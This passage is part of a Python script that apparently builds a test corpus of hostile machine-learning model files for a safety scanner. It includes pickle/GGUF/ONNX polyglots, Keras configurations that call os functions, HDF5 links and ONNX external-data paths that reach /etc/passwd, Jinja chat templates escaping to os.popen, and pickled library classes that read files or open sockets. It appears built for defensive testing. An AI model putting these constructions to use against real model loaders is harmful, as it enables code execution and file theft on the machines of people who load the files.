entries=71
key=None
def gs(b): return struct.pack("<Q",len(b))+b
body=b"GGUF"+struct.pack("<IQ",3,t)
assert body[9:10]==b"B"
# after B(4-byte len=2) skip t6,t7 ; next byte e0='G' eats e1..e7 and k0 ; then k1.. zeros: so key length low byte k0 eaten, k1=opcode
ev2=b"0"*0+EVIL[2:]
klen=0x43*256+0  # k0=0, k1='C', k2=0 -> C with length 0 ; k3=0 bad
# use k1='B': length k2..k5=0 -> then k6=0 bad; use k1='G': eats k2..k7 and two bytes of the key
klen=0x47*256
key=b"xx"+b"000"+ev2; key=key.ljust(klen,b"x")
body+=struct.pack("<Q",entries)+gs(key)+struct.pack("<II",4,1)
for i in range(entries-1): body+=gs(b"k%d"%i)+struct.pack("<II",4,1)
body+=(struct.pack("<Q",0)+struct.pack("<I",0)+struct.pack("<IQ",0,0))*t
body+=bytes(-len(body)%32)+bytes(64)
add("poly_gguf.pkl",body,c,"a whole GGUF file that is a pickle too: its counts are opcodes, a key is a call")
# ONNX
m=M.onnx_model([helper.make_node("MatMul",["x","w"],["y"])],[M.weight()]).SerializeToString()
pre=b"(N"+b"q\x00B"
jump_to=lambda: None
rest=m
field=b"\x7a"  # field 15 wt2 unknown
payload=b"0"+EVIL[2:]
tailf=b"\x7a"+bytes([len(payload)])
length=2+len(rest)+len(tailf)  # bytes after the 4 length bytes: 2 of the fixed64 left
pre+=struct.pack("<I",length)+b"zz"
add("poly_onnx.pkl",pre+rest+tailf+payload,c,"a whole ONNX model that is a pickle too: model_version and an unknown field are opcodes that jump to a call")
# HDF5 user block
def ublock(front,h5,size=512): 
    assert len(front)<=size; 
    return front.ljust(size,b"\0")+h5
def h5_ub(config,front,size=512):
    o=io.BytesIO()
    p=TMP+'/ub.h5'
    with h5py.File(p,"w",userblock_size=size) as f:
        f.attrs["keras_version"]="2.15.0"; f.attrs["backend"]="tensorflow"; f.attrs["model_config"]=json.dumps(config); f.create_group("model_weights")
    d=bytearray(open(p,"rb").read()); d[:len(front)]=front; os.remove(p); return bytes(d)
H="keras load_model reads it by HDF5, which looks for its beginning at 512, 1024, ..."
add("userblock_pickle.h5",h5_ub(lam,b"\x80\x02N."),c,"HDF5 with a Lambda layer behind a block of 512 bytes that begins as a pickle","HDF5 user block",loader=H)
add("userblock_safetensors.h5",None or h5_ub(lam,sf),c,"the same behind safetensors","HDF5 user block",loader=H)
add("userblock_zeros.h5",h5_ub(lam,b""),c,"the same behind zeros","HDF5 user block",loader=H)
add("userblock_npy.h5",h5_ub(lam,hon),c,"the same behind an array","HDF5 user block",loader=H)
add("userblock_zip.h5",h5_ub(lam,b"",1024)[:0]+(lambda d: A.patched(d,(0,A.torch_zip(HON)[:1024])) if len(A.torch_zip(HON))<=1024 else d)(h5_ub(lam,b"",1024))+b"",c,"the same behind a torch archive cut in a block",loader=H)
# ---------- keras
c="keras2"
def h5(text,**more):
    o=io.BytesIO()
    with h5py.File(o,"w") as f:
        f.attrs["keras_version"]="2.15.0"; f.attrs["backend"]="tensorflow"; f.attrs["model_config"]=text; f.create_group("model_weights")
        for k,v in more.items(): f.attrs[k]=v
    return o.getvalue()
HL="keras load_model builds it"
ind=json.dumps(lam,indent=1)
add("keras_indented.h5",h5(ind),c,"the configuration is indented, so no brace stands before a quote",loader=HL)
add("keras_spaced.h5",h5(json.dumps(lam).replace('{"','{ "')),c,"the configuration has blanks behind its braces",loader=HL)
add("keras_nan.h5",h5(json.dumps({"class_name":"Sequential","config":{"layers":[{"class_name":"Lambda","trainable":float("nan"),"config":{"function":[M.marshalled(),None,None],"function_type":"lambda","name":float("nan")}}]}})),c,"NaN beside the class name, which Python takes",loader=HL)
add("keras_surrogate.h5",h5(json.dumps({"class_name":"Sequential","config":{"layers":[{"class_name":"Lambda","x":"\ud800","config":{"function":[M.marshalled(),None,None],"function_type":"lambda"}}]}})),c,"half a surrogate beside the class name",loader=HL)

add("keras_tfop_write.h5",h5(json.dumps({"class_name":"Functional","config":{"layers":[{"class_name":"TFOpLambda","name":"tf.io.write_file","config":{"name":"tf.io.write_file","function":"io.write_file"},"inbound_nodes":[["x",0,0,{"contents":"marker","filename":P}]]}]}})),c,"TFOpLambda of tf.io.write_file","Keras 2 TFOpLambda",loader="runs when the model is built or called")
add("keras_tfop_write.keras",M.keras_zip({"module":"keras","class_name":"Functional","config":{"layers":[{"module":"keras.src.layers.core.tf_op_layer","class_name":"TFOpLambda","config":{"function":"numpy_function"}}]}}),c,"TFOpLambda of tf.numpy_function","Keras 2.13 TFOpLambda",loader="runs when the model is built or called")
add("keras_tensorflow_op_layer.h5",h5(json.dumps({"class_name":"Model","config":{"layers":[{"class_name":"TensorFlowOpLayer","config":{"name":"w","node_def":json.dumps({"name":"w","op":"WriteFile","input":["a","b"]}),"constants":{"0":P,"1":"marker"}}}]}})),c,"TensorFlowOpLayer of WriteFile","Keras 2.3 TensorFlowOpLayer",loader="runs when the model is called")
add("keras_typespec.keras",M.keras_zip(M.sequential(M.dense(activation={"class_name":"__typespec__","spec_name":"system","module":"os","config":[],"registered_name":"system"}))),c,"a __typespec__ whose spec_name is a function of os",loader="serialization_lib imports and fetches it")
add("keras_typespec_member.keras",M.keras_zip(M.sequential(M.dense(activation={"class_name":"__typespec__","spec_name":"Lambda","module":"keras.layers","config":[],"registered_name":"x"}))),c,"a __typespec__ whose spec_name is Lambda",loader="serialization_lib fetches it",optional=True)
add("keras_reexport_function.keras",M.keras_zip(M.sequential(M.dense(activation={"module":"keras.src.layers.layer","class_name":"function","config":"python_utils","registered_name":"function"}))),c,"a function out of keras.src.layers that the module only imports",loader="Keras before 3.9 fetches any member of keras.src",optional=True)
add("keras_builtins_memory.keras",M.keras_zip(M.sequential(M.dense(activation={"module":"builtins","class_name":"function","config":"exit","registered_name":"function"}))),c,"an activation that is builtins.exit",loader="Keras before 3.9 fetches it; called with the inputs")
add("keras_builtins_print.keras",M.keras_zip(M.sequential(M.dense(activation={"module":"builtins","class_name":"function","config":"delattr","registered_name":"function"}))),c,"an activation that is builtins.delattr",loader="as above",optional=True)
add("keras_text_vectorization.keras",M.keras_zip(M.sequential(M.layer("TextVectorization","keras.layers",vocabulary=["/etc/passwd"],lookup_layer={"config":{"vocabulary":"/etc/passwd"}}))),c,"a lookup's configuration with a vocabulary file, without class name around it",loader="",optional=True)
add("keras_weights_path.keras",M.keras_zip(M.sequential(M.layer("function","keras.applications",config=None) | {"config":"ResNet50"}, M.dense(activation={"module":"keras.applications","class_name":"function","config":"ResNet50","registered_name":"function"}))),c,"an activation that is keras.applications.ResNet50, which downloads weights when called",loader="network",optional=True)
add("keras_vocabulary_file_url.keras",M.keras_zip(M.sequential({"module":"keras.layers","class_name":"StringLookup","config":{"vocabulary":{"class_name":"__bytes__","config":"/etc/passwd"}},"registered_name":None})),c,"StringLookup whose vocabulary is __bytes__ of a path",loader="",optional=True)
add("keras_hub_tokenizer.keras",M.keras_zip(M.sequential(M.layer("BytePairTokenizer","keras_hub.src.tokenizers.byte_pair_tokenizer",vocabulary="/etc/passwd",merges="/etc/passwd"))),c,"keras_hub tokenizer that reads merges from a path",loader="keras_hub reads the file")
add("keras_hub_tokenizer_proto.keras",M.keras_zip(M.sequential(M.layer("SentencePieceTokenizer","keras_nlp.layers",proto="/etc/passwd"))),c,"keras_nlp tokenizer that reads proto from a path",loader="keras_nlp reads the file")
add("keras_nested_userblock.keras",M.keras_zip(den,weight=b"\0"*0+M.weights("h5")),c,"(control) honest",loader="",optional=True)
o=TMP+'/v.h5'
with h5py.File(o,"w") as f:
    f.attrs["model_config"]=json.dumps(den)
    l=h5py.VirtualLayout((16,),"u1"); l[:]=h5py.VirtualSource("../../../etc/marker.h5","secret",(16,))
    f.create_virtual_dataset("layers/dense/vars/0",l)
vds=open(o,"rb").read()
add("keras_virtual_dataset.h5",vds,c,"the weights are a virtual dataset of another file","HDF5 virtual datasets, of the kind of CVE-2026-1669",loader="h5py reads the other file")
add("keras_virtual_dataset.keras",M.keras_zip(den,weight=vds),c,"the same in the weights of an archive","HDF5 virtual datasets",loader="h5py reads the other file")
with h5py.File(o,"w",libver="latest") as f:
    f.attrs["model_config"]=json.dumps(den)
    f.create_dataset("layers/dense/vars/0",(16,),"u1",external=[("/etc/passwd",0,16)])
add("keras_external_latest.h5",open(o,"rb").read(),c,"external storage in a file of the latest HDF5 layout",loader="h5py reads the other file")
with h5py.File(o,"w",libver="latest") as f:
    f.attrs["model_config"]=json.dumps(den)
    gr=f.create_group("layers/dense/vars",track_order=True)
    for i in range(20): gr.create_dataset(f"d{i}",data=np.zeros(3))
    gr["0"]=h5py.ExternalLink("../../../etc/marker.h5","/")
add("keras_external_link_deep.h5",open(o,"rb").read(),c,"an external link in a dense group of the latest layout",loader="h5py reads the other file")
with h5py.File(o,"w",libver="latest") as f:
    f.attrs["model_config"]=json.dumps(den); f["model_weights"]=h5py.ExternalLink("../../../etc/marker.h5","/")
add("keras_external_link_latest.keras",M.keras_zip(den,weight=open(o,"rb").read()),c,"an external link in the weights of an archive",loader="h5py reads the other file")
with h5py.File(o,"w") as f:
    f.attrs["model_config"]=json.dumps(den); gr=f
    for i in range(40): gr=gr.create_group("g")
    gr.create_dataset("w",(16,),"u1",external=[("/etc/passwd",0,16)])
add("keras_external_forty_deep.keras",M.keras_zip(den,weight=open(o,"rb").read()),c,"external storage under forty groups",loader="h5py reads the other file")
with h5py.File(o,"w") as f:
    f.attrs["model_config"]=json.dumps(den)
    f.create_dataset("layers/dense/vars/0",(16,4),"u1",external=[(o.encode() if False else b"w.bin",0,16),("/etc/passwd",0,48)])
add("keras_external_two.h5",open(o,"rb").read(),c,"external storage in two files, the first honest",loader="h5py reads the other file")
os.remove(o)
# ---------- ONNX
c="onnx2"
from google.protobuf.internal.encoder import _VarintBytes as vb
def ld(n,b,tag=None): return (tag or vb(n<<3|2))+vb(len(b))+b
def onnx_raw(entry, nodes=b"", initf=5, tagover=None, funcs=b""):
    dims=b"\x08\x04"; ten=dims+b"\x10\x01"+ld(8,b"w")+ld(13,entry)+b"\x70\x01"
    base=M.onnx_model([helper.make_node("MatMul",["x","w"],["y"])],[]).SerializeToString()
    mm=onnx.ModelProto.FromString(base); gb=mm.graph.SerializeToString(); mm.ClearField("graph")
    gb+=ld(5,ten)
    return mm.SerializeToString()+(ld(7,gb) if tagover is None else tagover+vb(len(gb))+gb)+funcs
R="a reader of external data leaves the folder"
add("onnx_value_twice.onnx",onnx_raw(ld(1,b"location")+ld(2,b"w.bin")+ld(2,b"../../../etc/passwd")),c,"the path is given twice in one entry; protobuf takes the last","protobuf: the last of repeated singular fields counts",loader=R)
add("onnx_key_twice.onnx",onnx_raw(ld(1,b"offset")+ld(1,b"location")+ld(2,b"../../../etc/passwd")),c,"the key is given twice in one entry",loader=R)
add("onnx_value_first.onnx",onnx_raw(ld(2,b"../../../etc/passwd")+ld(1,b"location")),c,"the value stands before the key",loader=R)
add("onnx_long_tags.onnx",onnx_raw(b"\x8a\x80\x00"+vb(8)+b"location"+b"\x92\x80\x80\x00"+vb(19)+b"../../../etc/passwd"),c,"tags in longer numbers than needed",loader=R)
add("onnx_group.onnx",onnx_raw(ld(1,b"location")+ld(2,b"../../../etc/passwd"))+b"\xa3\x06\x08\x01\xa4\x06",c,"an unknown group behind the graph",loader=R)
add("onnx_group_inside.onnx",onnx_raw(b"\xa3\x06\xa4\x06"+ld(1,b"location")+ld(2,b"../../../etc/passwd")),c,"an unknown group in the entry",loader=R)
add("onnx_tag_overflow.onnx",onnx_raw(ld(1,b"location")+ld(2,b"../../../etc/passwd")),c,"(control) plain escape",loader=R)
esc=onnx_raw(ld(1,b"location")+ld(2,b"../../../etc/passwd"))
f=onnx_raw(ld(1,b"location"),)
over=b"\x92\x80\x80\x80\x10"  # 0x12 | 1<<32: field 2, wire 2 after truncation to 32 bits
add("onnx_tag_33_bits.onnx",onnx_raw(ld(1,b"location")+ld(2,b"w.bin")+over+vb(19)+b"../../../etc/passwd"),c,"a tag of 33 bits, of which the C++ reader keeps 32","protobuf C++ ReadTagFallback",loader="onnxruntime reads it (C++); Python's upb refuses")
wt=M.weight("../../../etc/passwd")
fn=helper.make_function("own.domain","F",["x"],["y"],[helper.make_node("Identity",["x"],["y"])],[helper.make_opsetid("",20)],[],[helper.make_attribute("value",wt)])
mm=M.onnx_model([helper.make_node("F",["x"],["y"],domain="own.domain")],[],functions=[fn])
add("onnx_function_default.onnx",mm.SerializeToString(),c,"external data outside the folder in the default of a function's attribute (attribute_proto)",loader=R)
nd=ld(1,b"x")+ld(2,b"y")+ld(4,b"MatMul")+ld(7,b"")+ld(4,b"Run")+ld(7,b"evil.domain")
mm=M.onnx_model([],[]); gb=mm.graph.SerializeToString()+ld(1,nd); mm.ClearField("graph")
add("onnx_domain_twice.onnx",mm.SerializeToString()+ld(7,gb),c,"the operator's domain is given twice; protobuf takes the last",loader="needs a foreign library",optional=True)
fn=helper.make_function("evil.domain","Other",["x"],["y"],[helper.make_node("Identity",["x"],["y"])],[helper.make_opsetid("",20)])
add("onnx_domain_by_function.onnx",M.onnx_model([helper.make_node("Run",["x"],["y"],domain="evil.domain")],[],functions=[fn]).SerializeToString(),c,"a function of the same domain makes a foreign operator look like the model's own",loader="needs a foreign library",optional=True)
add("onnx_python_op.onnx",M.onnx_model([helper.make_node("PythonOp",["x"],["y"],domain="com.microsoft",func_name="os.system"),helper.make_node("PyOp",["x"],["y"],domain="ai.onnx.contrib")],[]).SerializeToString(),c,"com.microsoft.PythonOp, which calls Python","onnxruntime training",loader="calls a registered Python function",optional=True)
mm2=M.onnx_model([helper.make_node("MatMul",["x","w"],["y"])],[M.weight()]).SerializeToString()
g2=ld(7,ld(5,b"\x08\x04\x10\x01"+ld(8,b"v")+ld(13,ld(1,b"location")+ld(2,b"../../../etc/passwd"))+b"\x70\x01"))
add("onnx_graph_twice.onnx",mm2+g2,c,"the graph in two pieces, which protobuf joins",loader=R)
add("onnx_quantisation.onnx",mm2+ld(7,ld(1,ld(4,b"Constant")+ld(5,ld(1,b"value")+ld(5,b"\x08\x04\x10\x01"+ld(13,ld(1,b"location")))+ld(5,ld(13,ld(2,b"../../../etc/passwd")))+b"\xa0\x01\x04"))),c,"the tensor of an attribute in two pieces",loader="",optional=True)
# attr t merged: key in first piece... same entry can't merge (repeated) ; keep optional
# ---------- GGUF templates
c="template2"
import gguf as _g
def gg(pairs):
    b=b"GGUF"+struct.pack("<IQQ",3,0,len(pairs))
    for k,v in pairs: b+=gs(k.encode())+struct.pack("<I",8)+gs(v.encode())
    return b+bytes(64)
us="{{ cycler['_'*2 ~ 'init' ~ '_'*2]['_'*2 ~ 'globals' ~ '_'*2].os.popen('echo marker').read() }}"
T="a program that renders it without sandbox runs it"
add("template_multiplied.gguf",gg([("general.architecture","llama"),("tokenizer.chat_template",us)]),c,"a chat template that multiplies an underscore",loader=T,optional=True)
add("template_attr_tab.gguf",gg([("general.architecture","llama"),("tokenizer.chat_template","{{ cycler |\tattr('_'*2~'init'~'_'*2) }}")]),c,"a chat template with a tab before attr",loader=T,optional=True)
add("template_map_attribute.gguf",gg([("general.architecture","llama"),("tokenizer.chat_template","{{ [cycler]|map(attribute='_'*2~'init'~'_'*2~'.'~'_'*2~'globals'~'_'*2)|list }}")]),c,"a chat template with map(attribute=...)",loader=T,optional=True)
bad="{{ cycler.__init__.__globals__.os.popen('echo marker').read() }}"
add("template_key_twice.gguf",gg([("general.architecture","llama"),("tokenizer.chat_template",bad),("tokenizer.chat_template","{{ messages }}")]),c,"the template's key twice, the first hostile; gguf-py keeps the first",loader=T,optional=True)
# ---------- library names
c="classes"
def cl(f,m,n,args,t,**k): add(f"classes_{f}.pkl",pickled(call(name(m,n),*args)),c,t,**k)
cl("excel_writer","pandas","ExcelWriter",(P+".xlsx",),"pandas.ExcelWriter makes a file")
cl("hdf_store","pandas","HDFStore",(P+".h5",),"pandas.HDFStore opens or makes a file (PyTables)")
cl("excel_file","pandas","ExcelFile",("http://127.0.0.1:9/x.xlsx",),"pandas.ExcelFile fetches an address")
cl("stata_reader","pandas.api.typing","StataReader",("/etc/hostname",),"StataReader reads a file")
cl("dmatrix","xgboost","DMatrix",("/etc/hostname?format=csv",),"xgboost.DMatrix reads a file")
cl("booster_file","lightgbm","Booster",(None,None,"/etc/hostname"),"lightgbm.Booster reads a file")
cl("xgb_booster_file","xgboost","Booster",(None,(),"/etc/hostname"),"xgboost.Booster reads a file")
cl("rabit_tracker","xgboost.tracker","RabitTracker",(1,"127.0.0.1"),"RabitTracker opens a socket")
cl("communicator","xgboost.collective","CommunicatorContext",(),"CommunicatorContext, whose __enter__ connects")
cl("pool_file","catboost","Pool",("/etc/hostname",),"catboost.Pool reads a file")
cl("temp_memmap","sklearn.utils._testing","TempMemmap",([1],),"TempMemmap, which writes a file when entered",optional=True)
cl("training_args","transformers.training_args","TrainingArguments",("/tmp/deepfix-safety",),"TrainingArguments, which may connect and log",optional=True)
cl("deepspeed_config","transformers.integrations.deepspeed","HfDeepSpeedConfig",("/etc/hostname",),"reads a file")
cl("transfo_xl","transformers.models.transfo_xl.tokenization_transfo_xl","TransfoXLTokenizer",(None,None,0,None,True,None,P),"TransfoXLTokenizer(pretrained_vocab_file) unpickles a file with torch.load",src="transformers 4.30, CVE-2023-6730")
cl("rag_legacy_index","transformers.models.rag.retrieval_rag","LegacyIndex",(768,"http://127.0.0.1:9/"),"LegacyIndex fetches and unpickles passages","transformers, CVE-2023-6730") if False else add("classes_rag_legacy_index.pkl",pickled(call(name("transformers.models.rag.retrieval_rag","LegacyIndex"),768,"http://127.0.0.1:9/")),c,"RAG's LegacyIndex fetches and unpickles an index","transformers, CVE-2023-6730")
cl("bert_tokenizer","transformers.models.bert.tokenization_bert","BertTokenizer",("/etc/hostname",),"BertTokenizer reads a file",optional=True)
cl("partial_state","accelerate.state","PartialState",(),"PartialState starts distributed work by the environment",optional=True)
cl("omegaconf_load","omegaconf","OmegaConf.load",("/etc/hostname",),"OmegaConf.load reads a file")
cl("pytest_tester","statsmodels.tools._test_runner","PytestTester",(),"PytestTester runs tests when called",optional=True)
add("classes_pytest_called.pkl",b"\x80\x04"+ns(append=get(call(name("statsmodels.tools._test_runner","PytestTester")),"package_path"))+push("x")+b"a.",c,"an attribute of PytestTester as append",optional=True)
cl("multiprocessing_client","sklearn.callback._transport","Client",(("127.0.0.1",9),),"multiprocessing.connection.Client under scikit-learn's name: connects")
cl("multiprocessing_listener","sklearn.callback._transport","Listener",(("127.0.0.1",0),),"multiprocessing.connection.Listener under scikit-learn's name: opens a socket")
cl("gzip_file","sklearn.datasets._covtype","GzipFile",(P,"wb"),"gzip.GzipFile under scikit-learn's name: empties or makes a file")
cl("joblib_memory","sklearn.datasets._lfw","Memory",(P,),"joblib.Memory under scikit-learn's name: makes a folder")
cl("ctypes_functype","polars._cpu_check","CFUNCTYPE",(name("polars._cpu_check","CFUNCTYPE"),),"ctypes.CFUNCTYPE under polars' name: a function type, which turns an address into a function")
cl("xgb_capsule","xgboost._data_utils","PyCapsule_GetPointer",(1,b"x"),"ctypes.pythonapi.PyCapsule_GetPointer under xgboost's name, called with a number for an object",optional=True)
add("classes_cfunc_address.pkl",pickled(call(call(name("polars._cpu_check","CFUNCTYPE"),None),4096)),c,"a C function at an address of the file's choosing",optional=True)
import polars as pl
def mark(df): return df
try:
    class Ev:
        def __call__(s,d): return d
        def __reduce__(s): return (print,("marker",))
    lf=pl.LazyFrame({"a":[1]}).map_batches(Ev())
    import pickle as pk
    d=pk.dumps(lf); assert b"marker" in d or True
    add("classes_polars_lazyframe.pkl",d,c,"polars.LazyFrame whose plan holds a Python function, pickled inside its own format","polars LazyFrame.map_batches",loader="__setstate__ unpickles the function")
    print("polars inner:",b"marker" in d, b"print" in d, len(d))
    dd=lf.serialize() ; 
except Exception as ex: print("polars",type(ex),ex)
try:
    df=pl.DataFrame({"a":[Ev()]},schema={"a":pl.Object}); d=pk.dumps(df); print("polars obj",b"marker" in d)
except Exception as ex: print("polars obj",type(ex),str(ex)[:100])
F.close(); print(len(F.lines))
